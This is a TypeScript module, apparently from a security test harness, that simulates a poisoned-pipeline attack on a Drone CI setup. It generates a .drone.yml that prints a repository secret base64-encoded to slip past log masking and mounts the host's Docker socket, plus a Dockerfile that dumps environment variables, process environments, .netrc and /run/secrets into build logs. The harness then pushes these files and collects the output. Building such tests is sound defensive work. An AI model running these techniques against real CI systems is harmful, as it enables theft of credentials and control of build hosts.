import { stringify } from 'yaml';
import { inspectContainer } from '../../../clients/docker/docker';
import { prefix } from '../isolate';
import { buildOf, type Checkout, logOf, platformOf } from '../shop';
import type { World } from '../world';
import { foreignSlug } from './foreign';

const socket = '/var/run/docker.sock';

/** What the poisoned pipeline's steps print when they run. */
export const marks = { step: 'this-step-is-not-yours', dockerfile: 'the-dockerfile-is-mine' } as const;

/**
 * A pipeline of the attacker's own, as a commit brings it: a step of his, a secret of the repository in a spelling that
 * Drone does not hide, the engine's socket.
 * @param o.trusted the repository is one whose steps Drone lets mount what is the host's: no other's pipeline that asks for it runs
 */
async function poisonedPipeline(o: { trusted: boolean }): Promise<string> {
  const image = (await inspectContainer(`${prefix}-pipelines`))?.Image ?? '';
  const step = (name: string, command: string, more: object = {}) => ({
    name,
    image,
    pull: 'never',
    commands: [command],
    ...more,
  });
  return stringify({
    kind: 'pipeline',
    type: 'docker',
    name: 'poisoned',
    // The platform has no image for Drone's own clone step.
    clone: { disable: true },
    steps: [
      step('mine', `echo ${marks.step}`),
      step('secret', 'printf %s "$STOLEN" | base64 -w0; echo', {
        environment: { STOLEN: { from_secret: 'registry_password' } },
      }),
      ...(o.trusted
        ? [step('socket', 'docker ps --format "{{.Names}}"', { volumes: [{ name: 'engine', path: socket }] })]
        : []),
    ],
    ...(o.trusted ? { volumes: [{ name: 'engine', host: { path: socket } }] } : {}),
  });
}

/**
 * A Dockerfile that looks for whatever the build's containers might hold, and shows it where Drone hides nothing. Another one
 * each time: what the builder has in its cache prints nothing.
 */
const poisonedDockerfile = (): string => `ARG BASE_IMAGE
FROM \${BASE_IMAGE} AS test
RUN echo ${marks.dockerfile} ${Date.now()}; ls -la /var/run/docker.sock /sluice /drone 2>&1; \\
    (env; cat /proc/*/environ; cat "$HOME"/.netrc /run/secrets/*) 2>/dev/null | base64 -w0
FROM test
`;

/** What the attacker's pushes made Drone print. */
export interface Loot {
  /** In the service's repository, on a branch. */
  branch: string;
  /** In the attacker's repository. */
  foreign: string;
}

/** Pushes the attacker's commit to a branch of the service and to his own repository, and reads what Drone ran. */
export async function pushPoison(world: World, checkout: Checkout): Promise<Loot> {
  const files = async (trusted: boolean) => ({
    '.drone.yml': await poisonedPipeline({ trusted }),
    Dockerfile: poisonedDockerfile(),
  });
  const { gitHost } = await platformOf(world);
  const commit = await checkout.pushFiles('poison', await files(true));
  const branch = await logOf(world, await buildOf(world, commit));
  const own = await checkout.pushFiles('main-of-his-own', await files(false), `${gitHost.url}/${foreignSlug}.git`);
  const build = await buildOf(world, own, foreignSlug);
  return { branch, foreign: await logOf(world, build, foreignSlug) };
}
